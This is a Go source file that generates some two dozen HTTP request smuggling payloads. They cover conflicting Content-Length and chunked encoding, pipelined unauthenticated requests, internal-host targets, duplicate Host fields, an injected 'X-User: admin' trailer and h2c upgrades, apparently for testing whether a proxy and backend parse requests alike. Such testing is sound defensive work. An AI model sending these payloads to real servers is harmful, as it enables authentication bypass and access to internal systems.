package smuggling

import (
	"fmt"
	"strings"
)

// attack is one way to have two servers read different requests.
type attack struct {
	name string
	// bytes are what the attacker sends.
	bytes func(t *target, token string) string
	// onlyAPI: it means something behind require_token only.
	onlyAPI bool
}

// head is the beginning of a request, without the empty line.
func head(t *target, token, method, fields string) string {
	if t.token && token != "" {
		fields = "Authorization: Bearer " + token + "\r\n" + fields
	}
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\nX-Id: attack\r\n%s", method, t.path, site, t.contentType, fields)
}

func chunk(data string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(data), data) }

// attacks are requests with a second one in them: behind the first, in its body, or in what
// its first line and its fields say of host, target and protocol.
func attacks() []attack {
	// with has one field, or another first line, and a body of its length.
	with := func(line, fields string) func(*target, string) string {
		return func(t *target, token string) string {
			request := head(t, token, "POST", fmt.Sprintf("%sContent-Length: %d\r\n", fields, len(t.body))) + "\r\n" + t.body
			_, rest, _ := strings.Cut(request, "\r\n")
			return strings.ReplaceAll(line, "{path}", t.path) + "\r\n" + rest
		}
	}
	withHost := func(host string) func(*target, string) string {
		return func(t *target, token string) string {
			return strings.Replace(with("POST {path} HTTP/1.1", "")(t, token), "Host: "+site+"\r\n", host, 1)
		}
	}
	after := func(second string) func(*target, string) string {
		return func(t *target, token string) string { return with("POST {path} HTTP/1.1", "")(t, token) + second }
	}
	// withBody begins its body with what is smuggled.
	withBody := func(method, fields string) func(*target, string) string {
		return func(t *target, token string) string {
			body := smuggled + t.body
			return head(t, token, method, fmt.Sprintf(fields+"Content-Length: %d\r\n", len(body))) + "\r\n" + body
		}
	}
	chunked := func(fields string, body func(*target) string) func(*target, string) string {
		return func(t *target, token string) string {
			return head(t, token, "POST", fields+"Transfer-Encoding: chunked\r\n") + "\r\n" + body(t)
		}
	}
	upgrade := func(protocol, fields string) func(*target, string) string {
		return func(t *target, token string) string {
			return head(t, token, "GET", "Connection: Upgrade"+fields+"\r\nUpgrade: "+protocol+"\r\n") + "\r\n"
		}
	}
	// trailer sends the token behind the body only.
	trailer := func(t *target, token string) string {
		body := chunk(t.body) + "0\r\nAuthorization: Bearer " + token + "\r\n\r\n"
		return head(t, "", "POST", "Trailer: Authorization\r\nTransfer-Encoding: chunked\r\n") + "\r\n" + body
	}
	const settings = ", HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
	return []attack{
		{name: "chunks and a length", bytes: chunked("Content-Length: 5\r\n", func(t *target) string { return chunk(t.body) + "0\r\n\r\n" + smuggled })},
		{name: "chunks that another encoding is in", bytes: chunked("Transfer-Encoding: identity\r\n", func(t *target) string { return chunk(t.body) + "0\r\n\r\n" + smuggled })},
		{name: "a chunk with an extension", bytes: chunked("", func(t *target) string {
			return fmt.Sprintf("%x;\nxx\r\n%s\r\n0\r\n\r\n", len(t.body), t.body) + smuggled
		})},
		{name: "two lengths", bytes: withBody("POST", "Content-Length: 0\r\n")},
		{name: "a second request without a token", bytes: after(smuggled)},
		{name: "HTTP/1.0 on the same connection", bytes: after("GET /api/smuggled HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")},
		{name: "the preface of HTTP/2", bytes: after("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
		{name: "an absolute target for another host", bytes: with("POST http://"+internal+"{path} HTTP/1.1", "")},
		{name: "an authority for a target", bytes: with("POST "+internal+":80 HTTP/1.1", "")},
		{name: "an asterisk for a target", bytes: with("POST * HTTP/1.1", "")},
		{name: "a fragment in the target", bytes: with("POST {path}#/../smuggled HTTP/1.1", "")},
		{name: "a line feed in the target", bytes: with("POST {path}\n/api/smuggled HTTP/1.1", "")},
		{name: "CONNECT", bytes: with("CONNECT "+internal+":80 HTTP/1.1", "")},
		{name: "CONNECT with a path", bytes: with("CONNECT {path} HTTP/1.1", "")},
		{name: "a version of its own", bytes: with("POST {path} HTTP/1.9", "")},
		{name: "two Host fields", bytes: withHost("Host: " + site + "\r\nHost: " + internal + "\r\n")},
		{name: "no Host", bytes: withHost("")},
		{name: "a Host with a path", bytes: withHost("Host: " + site + "/api/smuggled?\r\n")},
		{name: "a Host with user information", bytes: withHost("Host: " + site + "@" + internal + "\r\n")},
		{name: "a Connection that names other fields", bytes: with("POST {path} HTTP/1.1", "Connection: Content-Length, Authorization, Host, X-User\r\n")},
		{name: "a GET with a body", bytes: withBody("GET", "")},
		{name: "a HEAD with a body", bytes: withBody("HEAD", "")},
		{name: "a body that waits for nobody (Expect)", bytes: withBody("POST", "Expect: 100-continue\r\n")},
		{name: "a token in the trailer", onlyAPI: true, bytes: trailer},
		{name: "another user in the trailer, announced", onlyAPI: true, bytes: chunked("Trailer: X-User\r\n", func(t *target) string { return chunk(t.body) + "0\r\nX-User: admin\r\n\r\n" })},
		{name: "an upgrade to HTTP/2", onlyAPI: true, bytes: upgrade("h2c", settings)},
		{name: "an upgrade to TLS (RFC 2817)", onlyAPI: true, bytes: upgrade("TLS/1.0", "")},
	}
}
